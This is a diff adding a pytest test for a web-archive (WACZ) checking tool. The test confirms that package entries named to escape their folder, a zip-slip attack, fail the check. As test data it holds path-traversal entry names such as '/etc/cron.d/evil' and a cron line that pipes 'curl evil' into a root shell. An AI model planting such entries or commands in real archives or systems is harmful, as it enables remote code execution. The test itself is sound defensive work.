@@ -428,3 +428,25 @@ def test_urls_no_parser_takes_import_export_and_report(tmp_path: Path,
     reported = custody("report", cid, "-o", str(tmp_path / "report.html"))
     assert reported.exit_code == 0, reported.output
     assert custody.verify()[0] == 0
+
+
+@pytest.mark.parametrize("entry", ["../../../../tmp/zipslip.txt", "/etc/cron.d/evil",
+                                   "archive/../../x.warc.gz", "C:/Windows/evil.dll",
+                                   "..\\\\evil.txt"])
+def test_a_wacz_entry_named_to_escape_its_folder_fails_the_check(
+        custody: Custody, tmp_path: Path, entry: str) -> None:
+    """custody never unpacks a package, but a partner checks one before another tool
+    does (wb-manager, unzip): an entry whose name would be written outside the folder it
+    is unpacked in fails the check, named."""
+    source = Path(__file__).parent / "data" / "corpora" / "webrecorder-py-wacz" / \
+        "valid_example_1.wacz"
+    hostile = tmp_path / "hostile.wacz"
+    hostile.write_bytes(source.read_bytes())
+    with zipfile.ZipFile(hostile, "a") as package:
+        package.writestr(entry, b"* * * * * root sh -c 'curl evil | sh'\n")
+    result = custody("check", "--json", str(hostile))
+    assert result.exit_code == 1, result.output
+    failed = [c for c in json.loads(result.stdout)["checks"] if c["outcome"] == "failed"]
+    assert any("outside the folder" in c["detail"] and entry[:20] in c["subject"]
+               for c in failed), failed
+    assert custody("check", "--json", str(source)).exit_code == 0
